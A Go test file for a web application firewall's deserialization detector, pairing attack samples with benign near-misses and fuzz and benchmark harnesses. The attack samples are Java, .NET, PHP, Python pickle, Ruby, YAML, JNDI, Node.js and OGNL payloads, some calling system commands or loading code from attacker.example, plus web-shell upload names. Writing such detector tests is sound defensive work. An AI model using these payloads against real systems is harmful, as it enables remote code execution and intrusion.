package deserialization

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/portcullis-waf/portcullis/waf/detect"
	tt "github.com/portcullis-waf/portcullis/waf/detect/internal/tabletest"
)

const (
	q    = detect.WhereQuery
	form = detect.WhereForm
	js   = detect.WhereJSON
	hdr  = detect.WhereHeader
	ck   = detect.WhereCookie
	body = detect.WhereBody
)

// javaObject builds the start of a Java object stream for class name.
func javaObject(name string) string {
	b := []byte{0xac, 0xed, 0x00, 0x05, 0x73, 0x72, byte(len(name) >> 8), byte(len(name))}
	b = append(b, name...)
	b = append(b, 0x12, 0x34, 0x56, 0x78, 0x9a, 0xbc, 0xde, 0xf0, 0x02, 0x00, 0x01, 0x4c, 0x00, 0x01, 'x')
	return string(b)
}

// binaryFormatter builds a BinaryFormatter header and a BinaryLibrary
// record naming lib.
func bfStream(lib string) string {
	b := []byte{0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0c, 0x02, 0x00, 0x00, 0x00, byte(len(lib))}
	b = append(b, lib...)
	b = append(b, 0x05, 0x01, 0x00, 0x00, 0x00)
	return string(b)
}

func b64(s string) string  { return base64.StdEncoding.EncodeToString([]byte(s)) }
func b64u(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// pickle4 is a protocol-4 pickle calling module.name(arg).
func pickle4(module, name, arg string) string {
	var b []byte
	b = append(b, 0x80, 0x04, 0x95, 40, 0, 0, 0, 0, 0, 0, 0)
	b = append(b, 0x8c, byte(len(module)))
	b = append(b, module...)
	b = append(b, 0x94, 0x8c, byte(len(name)))
	b = append(b, name...)
	b = append(b, 0x94, 0x93, 0x94, 0x8c, byte(len(arg)))
	b = append(b, arg...)
	b = append(b, 0x94, 0x85, 0x94, 'R', 0x94, '.')
	return string(b)
}

// marshalObject is Ruby Marshal data for an object of class name.
func marshalObject(name string) string {
	b := []byte{0x04, 0x08, 'o', ':', byte(len(name) + 5)}
	b = append(b, name...)
	b = append(b, 0x06, ':', 0x0a, '@', 'x', 'y', 'z', 'w', 'i', 0x06)
	return string(b)
}

var viewStateWithBF = "/wE" + b64("\xff\x01\x32\xa0\x01" + bfStream("System.Windows.Forms, Version=4.0.0.0"))[3:]

var cases = []tt.Case{
	// Java.
	{Value: javaObject("java.util.PriorityQueue"), Where: body, Want: tt.Attack},
	{Value: b64(javaObject("org.apache.commons.collections4.comparators.TransformingComparator")), Where: ck, Want: tt.Attack},
	{Value: b64u(javaObject("sun.reflect.annotation.AnnotationInvocationHandler")), Where: q, Want: tt.Attack},
	{Value: hex.EncodeToString([]byte(javaObject("java.util.HashMap"))), Where: form, Want: tt.Attack},
	{Value: strings.ToUpper(hex.EncodeToString([]byte(javaObject("java.util.HashSet")))), Where: form, Want: tt.Attack},
	{Value: `{"session":"` + b64(javaObject("javax.management.BadAttributeValueExpException")) + `"}`, Where: body, Want: tt.Attack},
	{Value: "data=" + b64(javaObject("com.sun.rowset.JdbcRowSetImpl")), Where: ck, Want: tt.Attack},
	{Value: "\xac\xed\x00\x05\x73\x7d\x00\x00\x00\x01\x00\x1ajava.util.Map", Where: body, Want: tt.Attack},
	{Value: "\xac\xed\x00\x05\x77\x04\x00\x00\x00\x01", Where: body, Want: tt.Attack},

	// .NET.
	{Value: bfStream("System.Windows.Forms, Version=4.0.0.0, Culture=neutral"), Where: body, Want: tt.Attack},
	{Value: b64(bfStream("Microsoft.PowerShell.Editor, Version=3.0.0.0")), Where: form, Want: tt.Attack},
	{Value: viewStateWithBF, Where: form, Name: "ARGS:__VIEWSTATE", Want: tt.Attack},
	{Value: `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0","MethodName":"Start"}`, Where: body, Want: tt.Attack},
	{Value: `{"x": {"$type": "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"}}`, Where: body, Want: tt.Attack},

	// PHP.
	{Value: `O:8:"stdClass":1:{s:1:"a";s:1:"b";}`, Where: ck, Want: tt.Attack},
	{Value: `O:+8:"stdClass":0:{}`, Where: q, Want: tt.Attack},
	{Value: `a:2:{i:0;s:3:"foo";i:1;O:20:"Monolog\Handler\Test":1:{s:4:"test";i:1;}}`, Where: form, Want: tt.Attack},
	{Value: "O:12:\"Illuminate\\X\":2:{s:9:\"\x00*\x00events\";N;s:8:\"\x00*\x00event\";N;}", Where: body, Want: tt.Attack},
	{Value: `C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}`, Where: ck, Want: tt.Attack},
	{Value: `user=O:4:"User":2:{s:4:"name";s:5:"admin";s:7:"isAdmin";b:1;}`, Where: ck, Want: tt.Attack},
	{Value: "GIF89a<?php __HALT_COMPILER(); ?>\x0f\x00\x00\x00O:8:\"stdClass\":0:{}", Where: body, Want: tt.Attack},

	// Python.
	{Value: pickle4("posix", "system", "id"), Where: body, Want: tt.Attack},
	{Value: b64(pickle4("subprocess", "check_output", "id")), Where: ck, Want: tt.Attack},
	{Value: "cos\nsystem\n(S'id'\ntR.", Where: body, Want: tt.Attack},
	{Value: b64("cposix\nsystem\n(S'touch /tmp/x'\ntR."), Where: ck, Want: tt.Attack},
	{Value: "\x80\x02cbuiltins\neval\nq\x00U\x03'x'q\x01\x85q\x02Rq\x03.", Where: body, Want: tt.Attack},
	{Value: "(cos\nsystem\nS'id'\no.", Where: body, Want: tt.Attack},

	// Ruby.
	{Value: marshalObject("Gem::Requirement"), Where: body, Want: tt.Attack},
	{Value: b64(marshalObject("ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy")), Where: ck, Want: tt.Attack},

	// YAML.
	{Value: "!!python/object/apply:os.system ['id']", Where: body, Want: tt.Attack},
	{Value: "x: !!python/object/new:subprocess.Popen [['id']]", Where: body, Want: tt.Attack},
	{Value: "- !!python/name:os.system ''", Where: body, Want: tt.Attack},
	{Value: "!<tag:yaml.org,2002:python/object/apply:os.system> ['id']", Where: body, Want: tt.Attack},
	{Value: "--- !ruby/object:Gem::Installer\ni: x\n", Where: body, Want: tt.Attack},
	{Value: "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n", Where: body, Want: tt.Attack},
	{Value: `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]`, Where: body, Want: tt.Attack},
	{Value: "a: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://x.example/a', autoCommit: true}", Where: body, Want: tt.Attack},
	{Value: "foo: !php/object 'O:8:\"stdClass\":0:{}'", Where: body, Want: tt.Attack},

	// JSON polymorphic typing.
	{Value: `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}`, Where: body, Want: tt.Attack},
	{Value: `{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"rmi://x.example/a"}`, Where: body, Want: tt.Attack},
	{Value: `{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://x.example/a"}`, Where: body, Want: tt.Attack},
	{Value: `["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url":"jdbc:h2:mem:"}]`, Where: body, Want: tt.Attack},

	// Class names and object graphs.
	{Value: "rO0ABQ==", Where: q, Want: tt.Attack},
	{Value: "AKztAAVzcgARamF2YS51dGlsLkhhc2hNYXA=", Where: q, Want: tt.Attack},
	{Value: "<java version=\"1.7\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string></void></object></java>", Where: body, Want: tt.Attack},
	{Value: "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects.NativeString></entry></map>", Where: body, Want: tt.Attack},
	{Value: `{"data":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`, Where: body, Want: tt.Attack},
	{Value: "java.lang.ProcessBuilder", Where: q, Want: tt.Attack},
	{Value: "org.apache.commons.collections.functors.InvokerTransformer", Where: form, Want: tt.Attack},

	// Near-misses.
	{Value: "rO0ABXNyABFqYXZh", Where: q, Want: tt.Attack}, // truncated descriptor: still a Java object stream
	{Value: "rO0A is how Java streams look in base64", Where: form, Want: tt.Benign},
	{Value: "aced0005", Where: q, Want: tt.Weak},
	{Value: "randomTokenAAEAAADnotreally", Where: q, Want: tt.None},
	{Value: "dGhpcyBpcyBqdXN0IGJhc2U2NCB0ZXh0", Where: q, Want: tt.None},
	{Value: "/wEPDwUKLTI2NjA4NjAzNmRkZKgTgZ1Y0Zv1Xzd2Z3Zz7b5yX6v8", Where: form, Name: "ARGS:__VIEWSTATE", Want: tt.None},
	{Value: "BAh7BkkiD3Nlc3Npb25faWQGOgZFVEkiJWFiYw==--0123456789abcdef0123456789abcdef01234567", Where: ck, Want: tt.Benign},
	{Value: b64(marshalObject("ActionDispatch::Flash::FlashHash")) + "--0123456789abcdef0123456789abcdef01234567", Where: ck, Want: tt.Benign},
	{Value: `a:2:{i:0;s:3:"foo";i:1;s:3:"bar";}`, Where: ck, Want: tt.None},
	{Value: `O:8:"stdClass"`, Where: q, Want: tt.None},
	{Value: `O:5:"stdClass":0:{}`, Where: q, Want: tt.None},
	{Value: "Order O:12 shipped", Where: form, Want: tt.None},
	{Value: "Ratio O:2 in favour", Where: form, Want: tt.None},
	{Value: "Wow!! Great product!!", Where: form, Want: tt.None},
	{Value: "key: !!str 123\nother: !!binary aGVsbG8=", Where: body, Want: tt.None},
	{Value: "Resources:\n  B:\n    Value: !Ref Bucket\n    Other: !Sub '${AWS::Region}'\n", Where: body, Want: tt.None},
	{Value: "password: !vault |\n  $ANSIBLE_VAULT;1.1;AES256", Where: body, Want: tt.None},
	{Value: "point: !!python/tuple [1, 2]", Where: body, Want: tt.Benign},
	{Value: `{"@context":"https://schema.org","@type":"Person","name":"Anna"}`, Where: body, Want: tt.None},
	{Value: `{"@type":"https://schema.org/Product"}`, Where: body, Want: tt.None},
	{Value: `{"$type":"circle","r":2}`, Where: body, Want: tt.None},
	{Value: `["apple", {"color":"red"}]`, Where: body, Want: tt.None},
	{Value: `["com.example", {"a":1}]`, Where: body, Want: tt.None},
	{Value: "if !p.arch.RegisterPrefix(x) {", Where: form, Want: tt.None},
	{Value: "Exception in thread main java.lang.NullPointerException at com.example.App.run(App.java:12)", Where: form, Want: tt.None},
	{Value: "com.example.billing.Invoice", Where: q, Want: tt.None},
	{Value: "<com.example.Order><id>1</id></com.example.Order>", Where: body, Want: tt.None},
	{Value: "<object class=\"chart\" data=\"x.svg\"></object>", Where: body, Want: tt.None},
	{Value: "java.util", Where: q, Want: tt.Weak},
	{Value: "Yes, please", Where: form, Want: tt.None},
	{Value: "gAAAAABlN3x_fernet_token_here", Where: ck, Want: tt.None},
	{Value: "cats\ndogs\n", Where: form, Want: tt.None},
	{Value: "(see above)", Where: form, Want: tt.None},
	{Value: "c\n\n", Where: form, Want: tt.None},
}

func TestDetect(t *testing.T) { tt.Run(t, New(), cases) }

const maxStepsPerByte = 24

func steps(in detect.Input) (detect.Finding, bool, int) {
	var s scan
	f, ok := s.run(in)
	return f, ok, s.steps
}

func TestStepsLinear(t *testing.T) {
	units := []string{"rO0AB", "aced0005", "O:9:\"", "!!python/object:", `"@type":"a.b.C",`, `["a.b.C", `, "\xac\xed\x00\x05", "!", "__HALT_COMPILER();"}
	for _, unit := range units {
		v := strings.Repeat(unit, 10000)
		_, _, n := steps(detect.Input{Value: v, Where: body})
		if bound := tt.StepBound(len(v), maxStepsPerByte, 4*prefixBytes); n > bound {
			t.Errorf("%q x 10000: %d steps > %d", unit, n, bound)
		}
	}
}

func FuzzDetect(f *testing.F) {
	tt.Seeds(f, cases)
	d := New()
	f.Fuzz(func(t *testing.T, v string, where uint8) {
		in := detect.Input{Value: v, Where: detect.Where(where % 11)}
		fd, ok, n := steps(in)
		if err := tt.Invariants(d, in, fd, ok); err != nil {
			t.Fatal(err)
		}
		if bound := tt.StepBound(len(v), maxStepsPerByte, 4*prefixBytes); n > bound {
			t.Fatalf("%d steps for %d bytes > %d", n, len(v), bound)
		}
	})
}

var benignInputs = []detect.Input{
	{Value: `{"name":"Anna","email":"anna@example.com","items":[{"id":1,"qty":2}]}`, Where: body},
	{Value: "Hello, I would like to change my delivery address to 12 Main St.", Where: form},
	{Value: "42", Where: q},
	{Value: "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", Where: hdr},
	{Value: "/wEPDwUKLTI2NjA4NjAzNmRkZKgTgZ1Y0Zv1Xzd2Z3Zz7b5yX6v8", Where: form, Name: "ARGS:__VIEWSTATE"},
	{Value: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", Where: hdr},
}

var attackInputs = []detect.Input{
	{Value: b64(javaObject("java.util.PriorityQueue")), Where: ck},
	{Value: `O:8:"stdClass":1:{s:1:"a";s:1:"b";}`, Where: ck},
	{Value: b64(pickle4("posix", "system", "id")), Where: ck},
	{Value: "!!python/object/apply:os.system ['id']", Where: body},
	{Value: `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a"}`, Where: body},
	{Value: b64(bfStream("System.Windows.Forms, Version=4.0.0.0")), Where: form},
}

func BenchmarkDetect(b *testing.B) {
	b.Run("benign", func(b *testing.B) { tt.Bench(b, New(), benignInputs) })
	b.Run("attack", func(b *testing.B) { tt.Bench(b, New(), attackInputs) })
}

// TestNodeRequire (issue 15): Node.js code that loads a process or file
// module is the body of node-serialize and eval payloads; the same call
// in a documentation sample among sentences is not.
func TestNodeRequire(t *testing.T) {
	d := New()
	for _, c := range []tt.Case{
		{Value: `require("child_process").exec('whoami')`, Where: detect.WhereQuery, Want: tt.Attack},
		{Value: `{"rce":"function(){require('node:child_process').execSync('id')}()"}`, Where: detect.WhereBody, Want: tt.Attack},
		{Value: `(function(){ require ( 'vm' ).runInThisContext('1') })()`, Where: detect.WhereCookie, Want: tt.Attack},
		{Value: "To spawn a process, use the following: const { exec } = require('node:child_process'); exec('ls');", Where: detect.WhereJSON, Want: tt.Benign},
		{Value: "You require (a lot) of patience", Where: detect.WhereForm, Want: tt.None},
		{Value: "required('child_process')", Where: detect.WhereForm, Want: tt.None},
		{Value: "require('lodash')", Where: detect.WhereForm, Want: tt.None},
	} {
		in := c.Input()
		f, ok := d.Detect(in)
		if err := tt.Invariants(d, in, f, ok); err != nil {
			t.Error(err)
		}
		if pass, why := tt.Check(c.Want, f, ok); !pass {
			t.Errorf("%q: want %s: %s", c.Value, c.Want, why)
		}
	}
}

// TestJavaNames (issue 15): dotted Java names that join a process class
// with the java namespace or a gadget class, calls on a process class,
// class-loader property paths and gadget package selectors, in every
// placement; words, property keys and stack traces in prose are not.
func TestJavaNames(t *testing.T) {
	d := New()
	for _, c := range []tt.Case{
		{Value: "java.Runtime", Where: form, Want: tt.Attack},
		{Value: "java.ProcessBuilder", Where: ck, Want: tt.Attack},
		{Value: "java.evil.runtime", Where: detect.WhereArgName, Want: tt.Attack},
		{Value: "ProcessBuilder.evil.clonetransformer", Where: hdr, Want: tt.Attack},
		{Value: "runtime.forclosure", Where: detect.WhereXML, Want: tt.Attack},
		{Value: "RUNTIME.InstantiateFactory", Where: js, Want: tt.Attack},
		{Value: `{"ProcessBuilder.x.whileclosure": "test"}`, Where: body, Want: tt.Attack},
		{Value: "x java.lang.Runtime y", Where: q, Want: tt.Attack},
		{Value: `java.lang.Runtime.getRuntime().exec("id")`, Where: q, Want: tt.Attack},
		{Value: `Runtime.getRuntime().exec(new String[]{"sh","-c","id"})`, Where: form, Want: tt.Attack},
		{Value: `new java.lang.ProcessBuilder("id").start()`, Where: js, Want: tt.Attack},
		{Value: `new ProcessBuilder ("id").start()`, Where: q, Want: tt.Attack},
		{Value: `(#rt=@java.lang.Runtime@getRuntime(),#rt.exec("id"))`, Where: hdr, Want: tt.Attack},
		{Value: "class.module.classLoader.resources.context.parent.pipeline.first.pattern", Where: detect.WhereArgName, Want: tt.Attack},
		{Value: "class.classLoader.URLs[0]", Where: detect.WhereArgName, Want: tt.Attack},
		{Value: "x.org.apache.commons.collections.functors.InvokerTransformer", Where: body, Want: tt.Attack},
		{Value: "org.apache.commons", Where: form, Want: tt.Attack},
		{Value: "com.sun.org.apache", Where: ck, Want: tt.Attack},
		{Value: "com.opensymphony.xwork2", Where: hdr, Want: tt.Attack},
		{Value: "org.omg.CORBA", Where: js, Want: tt.Attack},
		{Value: "java.lang.reflect", Where: q, Want: tt.Attack},
		{Value: `{"f":"__js_function(){return 1}"}`, Where: body, Want: tt.Attack},

		{Value: "java.runtime.version", Where: detect.WhereArgName, Want: tt.Weak},
		{Value: `{"runtime":"nodejs18.x","handler":"index.handler"}`, Where: body, Want: tt.None},
		{Value: "chrome.runtime.sendMessage(id, msg)", Where: form, Want: tt.None},
		{Value: "runtime.exec(cmd)", Where: form, Want: tt.None},
		{Value: "new Runtime", Where: form, Want: tt.None},
		{Value: "Runtime", Where: q, Want: tt.None},
		{Value: "ProcessBuilder", Where: q, Want: tt.None},
		{Value: "The Java runtime. ProcessBuilder is nicer than exec", Where: form, Want: tt.None},
		{Value: "class.name", Where: detect.WhereArgName, Want: tt.None},
		{Value: "module.classLoader", Where: detect.WhereArgName, Want: tt.None},
		{Value: "java.util", Where: q, Want: tt.Weak},
		{Value: "Hi, my build fails with java.io.IOException at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048) when I run it", Where: form, Want: tt.Benign},
		{Value: "In Java, call Runtime.getRuntime().exec(cmd) only with an array of arguments, never a string.", Where: js, Want: tt.Benign},
		{Value: "org.example.billing", Where: q, Want: tt.None},
		{Value: "__js_functional_test", Where: q, Want: tt.None},
	} {
		in := c.Input()
		f, ok := d.Detect(in)
		if err := tt.Invariants(d, in, f, ok); err != nil {
			t.Error(err)
		}
		if pass, why := tt.Check(c.Want, f, ok); !pass {
			t.Errorf("%q (%s): want %s: %s", c.Value, c.Where, c.Want, why)
		}
	}
}

// TestServerPageUpload (issue 15): a Java server page stored by an upload
// runs as code; its name in a file name or an X-Filename header is
// judged, the same name elsewhere is text.
func TestServerPageUpload(t *testing.T) {
	d := New()
	for _, c := range []tt.Case{
		{Value: "shell.jsp", Where: detect.WhereFileName, Want: tt.Attack},
		{Value: "shell.JSPX.", Where: detect.WhereFileName, Want: tt.Attack},
		{Value: "shell.jsp  ", Where: detect.WhereFileName, Want: tt.Attack},
		{Value: "shell. jspx", Where: detect.WhereFileName, Want: tt.Attack},
		{Value: "a.jsp", Where: hdr, Name: "REQUEST_HEADERS:X-Filename", Want: tt.Attack},
		{Value: "foo.jspx.", Where: hdr, Name: "REQUEST_HEADERS:X_Filename", Want: tt.Attack},
		{Value: "report.pdf", Where: detect.WhereFileName, Want: tt.None},
		{Value: "jsp", Where: detect.WhereFileName, Want: tt.None},
		{Value: "notes.jsp.txt", Where: detect.WhereFileName, Want: tt.None},
		{Value: "index.jsp", Where: q, Want: tt.None},
		{Value: "a.jsp", Where: hdr, Name: "REQUEST_HEADERS:Referer", Want: tt.None},
	} {
		in := c.Input()
		f, ok := d.Detect(in)
		if err := tt.Invariants(d, in, f, ok); err != nil {
			t.Error(err)
		}
		if pass, why := tt.Check(c.Want, f, ok); !pass {
			t.Errorf("%q (%s): want %s: %s", c.Value, c.Where, c.Want, why)
		}
	}
}
